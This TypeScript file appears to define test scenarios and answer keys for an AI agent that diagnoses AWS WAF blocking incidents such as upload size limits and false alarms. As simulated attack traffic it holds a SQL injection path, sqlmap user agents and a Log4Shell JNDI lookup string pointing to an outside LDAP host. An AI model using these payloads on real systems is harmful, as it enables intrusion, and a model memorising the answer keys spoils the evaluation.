import type { Scenario } from '#simulation/scenario';
import { agents, machines, people, program, scanner, visitors } from '#simulation/waf/callers';
import { aclChanged, also, calls, rules, stops } from '#simulation/waf/happenings';
import { managed, own, statements } from '#simulation/waf/rules';
import { guarded } from '#simulation/waf/site';
import { clinicApi, magazine, storefront, tickets } from './places.ts';

const common = (more: object = {}) =>
  managed({ name: 'common', priority: 20, group: 'AWSManagedRulesCommonRuleSet', ...more });
const sizeLabel = 'awswaf:managed:aws:core-rule-set:SizeRestrictions_Body';

/** Tools that try injections, from forty hosts of providers. */
const injections = (seed: string, perMinute: number, since = 9_999) =>
  scanner({
    who: 'injections',
    perMinute,
    from: since,
    clients: machines(`${seed}/injections`, 40),
    agents: ['sqlmap/1.8', 'python-requests/2.32.3'],
    routes: [
      { method: 'POST', path: '/v1/search' },
      { method: 'GET', path: '/products/1%27%20OR%201=1' },
    ],
    stops: [
      { rule: 'sqli', within: 'SQLi_BODY', action: 'BLOCK', labels: ['awswaf:managed:aws:sql-database:SQLi_Body'] },
    ],
  });

export const temptingBodies: readonly Scenario[] = [
  {
    id: 'tempting-bodies/uploads-among-attacks',
    title: 'Customers’ uploads are blocked, beside a loud attack',
    symptom: 'Customers cannot upload photos',
    story:
      'The shop lets customers upload photos since its release 35 minutes ago. Every photo is larger than 8 KB, and the core rule set blocks each one. At the same time scanners try SQL injections, ten times as often, and are blocked as they should be.',
    ask: 'storefront-acl',
    account: (now) =>
      guarded(
        now,
        storefront('tempting-uploads'),
        also({ name: 'UpdateService', source: 'ecs', by: 'ci', minutesAgo: 36, parameters: { service: 'photos' } }),
        calls(
          visitors({
            who: 'uploads',
            perMinute: 5,
            from: 35,
            clients: people('tempting-uploads/up', 60),
            routes: [{ method: 'POST', path: '/v1/upload' }],
            body: [41_000, 900_000],
            stops: [{ rule: 'common', within: 'SizeRestrictions_BODY', action: 'BLOCK', labels: [sizeLabel] }],
          }),
          injections('tempting-uploads', 50, 34),
        ),
      ),
    truth: {
      kind: 'diagnosed',
      rootCause: ['body-size-block'],
      quotes: 'SizeRestrictions_BODY',
      mustNotClaim: [
        'rule-version-change',
        'fms-managed',
        'rate-limit-hit',
        'ip-reputation',
        'oversize-match',
        'not-waf',
        'attack-blocked',
      ],
    },
  },
  {
    id: 'tempting-bodies/size-counts-only',
    title: 'Large bodies are counted, and small ones blocked',
    story:
      'SizeRestrictions_BODY was set to Count long ago, and counts hundreds of uploads. What is blocked since 28 minutes are comments of signed-in people: a new editor sends HTML, which CrossSiteScripting_BODY takes for an attack.',
    ask: 'storefront-acl',
    account: (now) =>
      guarded(
        now,
        storefront('tempting-counted'),
        rules(common({ counted: ['SizeRestrictions_BODY'] })),
        calls(
          visitors({
            who: 'uploads',
            perMinute: 9,
            clients: people('tempting-counted/up', 80),
            routes: [{ method: 'POST', path: '/v1/upload' }],
            body: [41_000, 900_000],
            stops: [{ rule: 'common', within: 'SizeRestrictions_BODY', action: 'COUNT', labels: [sizeLabel] }],
          }),
          visitors({
            who: 'comments',
            perMinute: 6,
            from: 28,
            clients: people('tempting-counted/comments', 70),
            routes: [
              { method: 'POST', path: '/v1/basket' },
              { method: 'POST', path: '/v1/orders' },
            ],
            body: [400, 2_500],
            stops: [{ rule: 'common', within: 'CrossSiteScripting_BODY', action: 'BLOCK' }],
          }),
        ),
        also({ name: 'UpdateService', source: 'ecs', by: 'ci', minutesAgo: 29, parameters: { service: 'editor' } }),
      ),
    truth: {
      kind: 'diagnosed',
      rootCause: ['managed-rule-fp'],
      atMost: 'likely',
      quotes: 'CrossSiteScripting_BODY',
      mustNotClaim: ['body-size-block', 'oversize-match', 'count-mode-only', 'attack-blocked'],
    },
  },
  {
    id: 'tempting-bodies/own-rule-on-size',
    title: 'A rule of one’s own, on bodies it cannot see whole',
    story:
      'For import files a rule of the clinic blocks bodies over 64 KB. It treats what it cannot inspect as a match: since it was put in 40 minutes ago, everything over the inspection limit is blocked.',
    ask: 'appointments-api',
    account: (now) =>
      guarded(
        now,
        clinicApi('tempting-oversize'),
        rules(own({ name: 'import-size', priority: 5, statement: statements.bodyLargerThan(65_536, 'MATCH') })),
        aclChanged(40, 'w.hale'),
        calls(
          program({
            who: 'imports',
            perMinute: 4,
            clients: people('tempting-oversize/imports', 25, ['US']),
            routes: [{ method: 'POST', path: '/v1/orders' }],
            body: [18_000, 60_000],
            stops: [{ rule: 'import-size', action: 'BLOCK', since: 40 }],
          }),
        ),
      ),
    truth: {
      kind: 'diagnosed',
      rootCause: ['oversize-match'],
      resource: 'import-size',
      mustNotClaim: ['body-size-block', 'managed-rule-fp', 'default-action-block'],
    },
  },
  {
    id: 'tempting-bodies/attack-in-a-noisy-rule',
    title: 'A rule known for false alarms, and this time it is right',
    story:
      'SQLi_BODY blocks sixty requests a minute since half an hour: sqlmap, from forty hosts of providers, without a session, on a path that no visitor uses. Visitors are unaffected.',
    ask: 'tix-public',
    account: (now) => guarded(now, tickets('tempting-right'), calls(injections('tempting-right', 60, 30))),
    truth: {
      kind: 'not-happening',
      rootCause: null,
      mustNotClaim: ['managed-rule-fp', 'rate-limit-hit', 'ip-reputation'],
    },
  },
  {
    id: 'tempting-bodies/log4shell',
    title: 'Blocked requests are 300 times the usual, and nobody is hurt',
    story:
      'Somebody sprays Log4Shell strings over the whole site since 25 minutes. Log4JRCE_HEADER stops every one of them. Allowed requests are as many as ever.',
    ask: 'magazine-edge',
    account: (now) =>
      guarded(
        now,
        magazine('tempting-log4j'),
        calls(
          scanner({
            who: 'log4shell',
            perMinute: 240,
            from: 25,
            clients: machines('tempting-log4j', 45),
            agents: ['${jndi:ldap://198.51.100.9:1389/a}'],
            stops: [{ rule: 'bad-inputs', within: 'Log4JRCE_HEADER', action: 'BLOCK' }],
          }),
        ),
      ),
    truth: {
      kind: 'not-happening',
      rootCause: null,
      mustNotClaim: ['managed-rule-fp', 'rate-limit-hit', 'default-action-block', 'geo-block'],
    },
  },
  {
    id: 'tempting-bodies/whole-group-counts',
    title: 'A group that would block a great deal, if it were let',
    story:
      'The core rule set was put into Count for a trial last week, and counts fifty requests a minute: cookies that are too large. None of them is blocked.',
    ask: 'storefront-acl',
    account: (now) =>
      guarded(
        now,
        storefront('tempting-trial'),
        rules(common({ countOnly: true })),
        stops({ rule: 'common', within: 'SizeRestrictions_Cookie_HEADER', action: 'COUNT', part: 0.8 }),
      ),
    truth: { kind: 'not-happening', rootCause: null, mustNotClaim: ['managed-rule-fp', 'body-size-block'] },
  },
  {
    id: 'tempting-bodies/monitor-without-agent',
    title: 'Partners without a user agent',
    story:
      'A new version of a partner’s client no longer sends a user agent, since 50 minutes; NoUserAgent_HEADER blocks it. It has a token, and asks for the same paths as visitors. Scanners without user agents have been blocked by the same rule for years.',
    ask: 'storefront-acl',
    account: (now) =>
      guarded(
        now,
        storefront('tempting-agents'),
        calls(
          program({
            who: 'partner',
            perMinute: 12,
            from: 50,
            clients: people('tempting-agents/partner', 16, ['DE', 'FR']),
            agents: [''],
            routes: [
              { method: 'GET', path: '/v1/orders' },
              { method: 'POST', path: '/v1/orders' },
            ],
            stops: [{ rule: 'common', within: 'NoUserAgent_HEADER', action: 'BLOCK' }],
          }),
          scanner({
            who: 'nameless',
            perMinute: 0.7,
            clients: machines('tempting-agents/nameless', 12),
            agents: [''],
            stops: [{ rule: 'common', within: 'NoUserAgent_HEADER', action: 'BLOCK' }],
          }),
        ),
      ),
    truth: {
      kind: 'diagnosed',
      rootCause: ['managed-rule-fp'],
      atMost: 'likely',
      quotes: 'NoUserAgent_HEADER',
      mustNotClaim: ['bot-control', 'attack-blocked', 'rate-limit-hit', 'anonymous-or-hosting'],
    },
  },
  {
    id: 'tempting-bodies/desktop-app-is-no-browser',
    title: 'Two false alarms at once',
    story:
      'Since their releases this morning uploads are blocked for their size, and search terms with quotes for SQL. Uploads are four times as many.',
    ask: 'tix-public',
    account: (now) =>
      guarded(
        now,
        tickets('tempting-two'),
        calls(
          visitors({
            who: 'uploads',
            perMinute: 12,
            from: 45,
            clients: people('tempting-two/up', 60, ['AU', 'NZ']),
            routes: [{ method: 'POST', path: '/v1/upload' }],
            body: [20_000, 400_000],
            stops: [{ rule: 'common', within: 'SizeRestrictions_BODY', action: 'BLOCK', labels: [sizeLabel] }],
          }),
          visitors({
            who: 'searches',
            perMinute: 3,
            from: 44,
            clients: people('tempting-two/search', 60, ['AU', 'NZ']),
            agents: agents.browsers,
            routes: [{ method: 'POST', path: '/v1/basket' }],
            body: [200, 700],
            stops: [{ rule: 'sqli', within: 'SQLi_BODY', action: 'BLOCK' }],
          }),
        ),
      ),
    truth: {
      kind: 'diagnosed',
      rootCause: ['body-size-block'],
      contributing: ['managed-rule-fp'],
      mustNotClaim: ['attack-blocked', 'rate-limit-hit', 'not-waf'],
    },
  },
];
